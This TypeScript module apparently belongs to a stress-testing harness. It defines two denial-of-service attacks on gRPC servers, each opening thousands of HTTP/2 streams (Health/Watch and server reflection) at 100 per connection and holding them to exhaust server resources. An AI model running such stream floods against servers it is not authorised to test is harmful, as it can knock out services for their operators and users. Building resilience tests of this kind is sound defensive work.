import { once } from 'node:events'
import { type Attack, type AttackContext, scaled, untilOver } from './attack.ts'
import {
  END_HEADERS,
  END_STREAM,
  frame,
  headerBlock,
  openHttp2,
  requestHeaders,
  streamId,
} from './raw-http2.ts'
import { countOpen } from './raw-socket.ts'

const PER_CONNECTION = 100

/** Opens so many streams, 100 to a connection, and keeps them. */
async function hold(context: AttackContext, path: string, streams: number, isEnded: boolean) {
  const block = headerBlock(requestHeaders(path, 'application/grpc+proto'))
  const count = Math.ceil(scaled(streams, context) / PER_CONNECTION)
  const message = Buffer.alloc(5)
  const sockets = []
  for (let opened = 0; opened < count && !context.signal.aborted; opened += 1) {
    const { socket } = openHttp2(context)
    await Promise.race([once(socket, 'connect'), once(socket, 'close')]).catch(() => undefined)
    for (let index = 0; index < PER_CONNECTION; index += 1) {
      socket.write(frame('headers', END_HEADERS, streamId(index), block))
      socket.write(frame('data', isEnded ? END_STREAM : 0, streamId(index), message))
    }
    sockets.push(socket)
  }
  await untilOver(context)
  const asked = sockets.length * PER_CONNECTION
  return `${asked} streams asked for, ${countOpen(sockets)} of ${sockets.length} connections open at the end`
}

export const healthWatches: Attack = {
  name: 'health-watches',
  description: '20,000 streams of grpc.health.v1.Health/Watch on 200 connections',
  run: (context) => hold(context, '/grpc.health.v1.Health/Watch', 20_000, true),
}

export const reflectionStreams: Attack = {
  name: 'reflection-streams',
  description: '5,000 streams of server reflection on 50 connections',
  run: (context) =>
    hold(context, '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo', 5_000, false),
}
